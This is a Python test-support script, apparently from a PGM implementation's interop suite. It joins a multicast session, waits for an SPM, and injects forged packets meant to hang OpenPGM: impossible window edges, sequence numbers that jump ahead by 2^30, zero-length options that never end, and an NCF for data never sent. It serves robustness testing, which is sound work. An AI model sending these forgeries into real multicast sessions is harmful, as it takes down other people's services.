"""Packets that make OpenPGM hang, sent into a running session: `python -m tests.interop.support.attacker ADDRESS GROUP PORT [KIND ...]`.

It listens until it has heard an SPM, and forges what could be the next packets of that session (INT-Q10, INT-Q11, W-20).
"""

from __future__ import annotations

import socket
import struct
import sys
from collections.abc import Callable

import attrs

from pgm.wire.control_packets import Nak, Spm, decode_control_untrusted, encode
from pgm.wire.formats import NO_WINDOW_LEAD, NO_WINDOW_TRAIL, OPTIONS_PRESENT, PacketType
from pgm.wire.sequence_numbers import HALF, wrap
from tests.reference import data_packet, sealed

FAR = 1 << 30  # sqns: OpenPGM makes a placeholder for each
ENDLESS = (
    b"\0\4\0\x0c" + b"\x71\0\0\0" + b"\xf1\4\0\0"
)  # OPT_LENGTH, an option of length 0, an end that is never reached
OPTIONS_AT = 5  # octet of the header


def no_window(spm: Spm) -> bytes:
    """The edges that stand for no window: 2^31 sqns for whoever takes them for one."""
    return encode(attrs.evolve(spm, trail=NO_WINDOW_TRAIL, lead=NO_WINDOW_LEAD))


def wide_window(spm: Spm) -> bytes:
    """Edges just further apart than any window."""
    return encode(attrs.evolve(spm, lead=wrap(spm.trail + HALF)))


def far_lead(spm: Spm) -> bytes:
    """A lead that jumps."""
    return encode(attrs.evolve(spm, lead=wrap(spm.lead + FAR)))


def endless_options(spm: Spm) -> bytes:
    """An option of length 0 on an SPM."""
    changed = bytearray(encode(spm) + ENDLESS)
    changed[OPTIONS_AT] |= OPTIONS_PRESENT
    return sealed(bytes(changed))


def endless_options_of_data(spm: Spm) -> bytes:
    """An option of length 0 on the next ODATA."""
    sqn = wrap(spm.lead + 1)
    return data_packet(sqn, tsi=spm.tsi, data_port=spm.data_port, trail=spm.trail, option_octets=ENDLESS)


def far_data(spm: Spm, kind: PacketType = PacketType.ODATA) -> bytes:
    """ODATA that jumps."""
    sqn = wrap(spm.lead + FAR)
    return data_packet(sqn, b"far", tsi=spm.tsi, data_port=spm.data_port, trail=spm.trail, kind=kind)


def far_repair(spm: Spm) -> bytes:
    """RDATA that jumps."""
    return far_data(spm, PacketType.RDATA)


def far_ncf(spm: Spm, group: str) -> bytes:
    """An NCF for what was never sent."""
    packet = Nak(
        tsi=spm.tsi,
        data_port=spm.data_port,
        kind=PacketType.NCF,
        sqn=wrap(spm.lead + FAR),
        source_nla=spm.path_nla,
        group_nla=group,
    )
    return encode(packet)


FORGERIES: dict[str, Callable[[Spm], bytes]] = {
    forge.__name__: forge
    for forge in (
        no_window,
        wide_window,
        far_lead,
        endless_options,
        endless_options_of_data,
        far_data,
        far_repair,
    )
}


def hear_spm(group: str, port: int, address: str) -> Spm:
    """Wait for an SPM on the group."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as ear:
        ear.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        ear.bind((group, port))
        request = struct.pack("4s4s", socket.inet_aton(group), socket.inet_aton(address))
        ear.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, request)
        while True:
            octets = ear.recv(1 << 16)
            packet = decode_control_untrusted(octets) if octets[4] == PacketType.SPM else None
            if isinstance(packet, Spm):
                return attrs.evolve(packet, options=())


def main(address: str, group: str, port: int, kinds: list[str]) -> None:
    """Send forgeries, all of them where none is named, each as the next SPM of the session where it is one."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as gun:
        gun.bind((address, 0))
        gun.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(address))
        for kind in kinds or [*FORGERIES, far_ncf.__name__]:
            heard = hear_spm(group, port, address)
            following = attrs.evolve(heard, spm_sqn=wrap(heard.spm_sqn + 1))
            forged = FORGERIES[kind](following) if kind in FORGERIES else far_ncf(following, group)
            gun.sendto(forged, (group, port))
            print(kind, flush=True)


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4:])
